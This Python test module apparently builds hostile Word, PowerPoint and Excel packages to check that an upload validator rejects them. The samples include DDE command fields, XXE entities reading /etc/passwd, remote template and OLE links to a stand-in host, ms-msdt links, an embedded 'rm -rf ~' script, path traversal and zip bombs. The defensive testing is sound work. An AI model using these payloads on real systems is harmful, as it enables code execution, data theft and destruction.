"""PowerPoint, Word and Excel files that act, hide something, or explode."""

from __future__ import annotations

from app.materials.signs import EICAR
from tests.materials.hostile.zips import (
    Parts,
    encrypted,
    lying,
    packed,
    prefixed,
    two_faced,
    with_end,
    with_gap,
)

OFFICE = "application/vnd.openxmlformats-officedocument"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = {
    "docx": ("word/document.xml", f"{OFFICE}.wordprocessingml.document.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{OFFICE}.presentationml.presentation.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{OFFICE}.spreadsheetml.sheet.main+xml"),
}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;">]><w:document xmlns:w="w">&c;</w:document>'
)
EXTERNAL = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<w:document xmlns:w="w">&x;</w:document>'
)
FIELD = b'<w:document xmlns:w="w"><w:r><w:instrText>%s</w:instrText></w:r>%s</w:document>'


def document(extension: str = "docx", main: str = "", more: Parts | None = None) -> Parts:
    """The smallest document, with further parts; one of the same name takes its place."""
    name, type_ = MAIN[extension]
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{name}" ContentType="{main or type_}"/></Types>'
    )
    return {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": links("officeDocument", name, ""),
        name: b'<a:main xmlns:a="a"/>',
    } | (more or {})


def links(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONS}/{kind}" Target="{target}" {mode}/>'
        "</Relationships>"
    ).encode()


def cases() -> list[tuple[str, bytes, int]]:
    good = packed(document())
    in_word, in_slides = "word/_rels/document.xml.rels", "ppt/slides/_rels/slide1.xml.rels"
    macro_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
    template = f"{OFFICE}.wordprocessingml.template.main+xml"
    sheet = f"{OFFICE}.spreadsheetml.sheet.main+xml"
    with_parts: dict[str, tuple[str, Parts]] = {
        "makro-vba": ("docx", {"word/vbaProject.bin": OLE}),
        "makro-excel4": ("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}),
        "activex": ("docx", {"word/activeX/activeX1.xml": b"<a/>"}),
        "exe-tertanam": ("pptx", {"ppt/embeddings/oleObject1.bin": b"MZ" + bytes(200)}),
        "paket-ole": (
            "docx",
            {"word/embeddings/oleObject1.bin": OLE + "\x01Ole10Native".encode("utf-16-le")},
        ),
        "xls-bermakro-tertanam": (
            "pptx",
            {"ppt/embeddings/buku.xls": OLE + "_VBA_PROJECT_CUR".encode("utf-16-le")},
        ),
        "skrip-tertanam": ("docx", {"word/media/image1.png": b"#!/bin/sh\nrm -rf ~\n"}),
        "html-tertanam": ("docx", {"word/afchunk.html": b"<html><script>alert(1)</script>"}),
        "rtf-tertanam": ("docx", {"word/afchunk.rtf": b"{\\rtf1 \\object}"}),
        "zip-di-dalam": ("docx", {"word/media/a.bin": packed({"a.exe": b"MZ"})}),
        "docx-bermakro-di-dalam": (
            "pptx",
            {
                "ppt/embeddings/dok.docx": packed(
                    document(more={"word/vbaProject.bin": OLE}),
                )
            },
        ),
        "eicar-di-dalam": ("docx", {"word/media/eicar.com": EICAR}),
        "templat-http": (
            "docx",
            {"word/_rels/settings.xml.rels": links("attachedTemplate", "http://jahat.test/a.dotm")},
        ),
        "templat-jaringan": (
            "docx",
            {
                "word/_rels/settings.xml.rels": links(
                    "attachedTemplate", "file://///10.0.0.1/a/b.dotm"
                )
            },
        ),
        "ole-http": ("docx", {in_word: links("oleObject", "https://jahat.test/a.html!")}),
        "ole-mhtml": (
            "docx",
            {in_word: links("oleObject", "mhtml:http://jahat.test/a!x-usc:http://jahat.test/a")},
        ),
        "ole-tanpa-mode": ("docx", {in_word: links("oleObject", "http://jahat.test/a", "")}),
        "gambar-jaringan": ("docx", {in_word: links("image", "\\\\10.0.0.1\\a\\b.png")}),
        "bingkai-http": ("docx", {in_word: links("frame", "http://jahat.test/a.html")}),
        "tautan-javascript": ("pptx", {in_slides: links("hyperlink", "javascript:alert(1)")}),
        "tautan-msdt": ("docx", {in_word: links("hyperlink", "ms-msdt:/id PCWDiagnostic")}),
        "tombol-program": (
            "pptx",
            {
                "ppt/slides/slide1.xml": b'<p:sld xmlns:p="p" xmlns:a="a">'
                b'<a:hlinkMouseOver action="ppaction://program"/></p:sld>'
            },
        ),
        "dde-word": ("docx", {"word/document.xml": FIELD % (b' DDEAUTO c:\\\\a.exe "x"', b"")}),
        "dde-terpotong": (
            "docx",
            {
                "word/document.xml": FIELD
                % (b" DDE", b"<w:r><w:instrText>AUTO cmd /c calc</w:instrText></w:r>")
            },
        ),
        "dde-sederhana": (
            "docx",
            {"word/footer1.xml": b'<w:f xmlns:w="w"><w:fldSimple w:instr="DDE cmd a"/></w:f>'},
        ),
        "dde-excel": (
            "xlsx",
            {"xl/externalLinks/externalLink1.xml": b'<a xmlns="x"><ddeLink ddeService="cmd"/></a>'},
        ),
        "bom-entitas": ("docx", {"word/document.xml": ENTITIES}),
        "xxe": ("docx", {"word/document.xml": EXTERNAL}),
        "xxe-utf16": (
            "docx",
            {"customXml/item1.xml": EXTERNAL.decode().encode("utf-16")},
        ),
        "dtd-di-rels": (
            "docx",
            {in_word: b'<!DOCTYPE a SYSTEM "http://jahat.test/a.dtd"><Relationships/>'},
        ),
        "xml-rusak": ("docx", {"word/document.xml": b"<w:document"}),
        "svg-entitas": (
            "pptx",
            {
                "ppt/media/image1.svg": b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///a">]><svg>&a;</svg>'
            },
        ),
        "jalan-keluar": ("docx", {"../../etc/cron.d/a": b"a"}),
        "jalan-mutlak": ("docx", {"/etc/passwd": b"a"}),
        "jalan-windows": ("docx", {"word\\..\\..\\a.dll": b"a"}),
        "bom-zip": ("docx", {"word/media/a.bin": bytes(245_000_000)}),
        "bom-tag": ("docx", {"word/document.xml": b"<a>" + b"<a/>" * 4_000_000 + b"</a>"}),
        "nama-kembar": ("docx", {"WORD/document.xml": b"<a/>"}),
    }
    made = [
        (f"{name}.{kind}", packed(document(kind, more=parts)), 422)
        for name, (kind, parts) in with_parts.items()
    ]
    many = {f"word/media/{n}.bin": b"" for n in range(10_001)}
    return [
        *made,
        ("makro-tipe.docx", packed(document(main=macro_type)), 422),
        ("templat.docx", packed(document(main=template)), 415),
        ("excel-bernama.docx", packed(document("xlsx")), 415),
        ("word-tertukar.docx", packed(document(main=sheet)), 415),
        ("zip-biasa.docx", packed({"a.txt": b"a"}), 415),
        (
            "jar.pptx",
            packed({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe"}),
            415,
        ),
        (
            "apk.xlsx",
            packed({"AndroidManifest.xml": b"\x03\0\x08\0", "classes.dex": b"dex\n"}),
            415,
        ),
        ("tanpa-bagian-utama.docx", packed(document(more={"_rels/.rels": b"<a/>"})), 422),
        ("bagian-kembar.docx", packed([*document().items(), ("word/document.xml", b"<b/>")]), 422),
        ("bagian-sangat-banyak.docx", packed(document(more=many)), 422),
        ("terkunci.docx", encrypted(good), 422),
        ("terpotong.docx", good[:-40], 422),
        ("data-di-depan.docx", prefixed(good, b"PK\x03\x04" + bytes(300)), 422),
        ("html-di-depan.docx", prefixed(good, b"<html><script>alert(1)</script>"), 415),
        ("exe-di-depan.pptx", prefixed(packed(document("pptx")), b"MZ" + bytes(400)), 415),
        ("data-di-belakang.docx", good + bytes(200_000), 422),
        ("catatan-di-belakang.docx", good + b"x" * 1000, 422),
        ("data-di-antara.docx", with_gap(good, bytes(range(256)) * 20), 422),
        ("dua-wajah.docx", two_faced(good, b"word/document.xml", b"word/evildocs.xml"), 422),
        (
            "ukuran-bohong.docx",
            lying(packed(document(more={"word/a.bin": bytes(90_000)})), b"word/a.bin", 10),
            422,
        ),
        ("daftar-besar.docx", with_end(good, listed=0x0FFFFFFF), 422),
        ("kosong.docx", b"", 422),
        ("doc-lama.docx", OLE, 415),
        ("terkunci-sandi.pptx", OLE + "EncryptedPackage".encode("utf-16-le"), 422),
    ]
